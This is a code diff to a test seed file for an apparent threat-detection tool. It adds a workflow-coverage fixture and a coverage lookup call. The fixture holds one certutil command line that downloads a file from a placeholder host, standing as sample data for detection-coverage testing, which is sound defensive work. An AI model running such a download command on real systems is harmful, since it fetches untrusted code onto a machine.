@@ -46,7 +46,9 @@ async function seed(db: Db): Promise<{ articleId: number; executionId: number; q
       huntScore: 70,
     },
   });
-  const execution = await db.prisma.workflowExecution.create({ data: { articleId: article.id, status: 'completed', configSnapshot: {} } });
+  const execution = await db.prisma.workflowExecution.create({
+    data: { articleId: article.id, status: 'completed', configSnapshot: {}, corpusCoverage: { corpus_rules: 1, covered: [], uncovered: ['cmdline: certutil -urlcache -f http://198.51.100.2/a a'] } },
+  });
   const analysed = analyseRuleText(RULE);
   if (!analysed.ok) throw new Error(analysed.reason);
   await db.prisma.sigmaReferenceRule.create({
@@ -77,6 +79,7 @@ function readArguments(ids: { articleId: number; executionId: number; queueId: n
     list_sources: {},
     list_workflow_executions: {},
     get_workflow_execution: { execution_id: ids.executionId },
+    get_article_coverage: { article_id: ids.articleId },
     list_sigma_queue: {},
     get_queue_item: { queue_id: ids.queueId },
     get_stats: {},
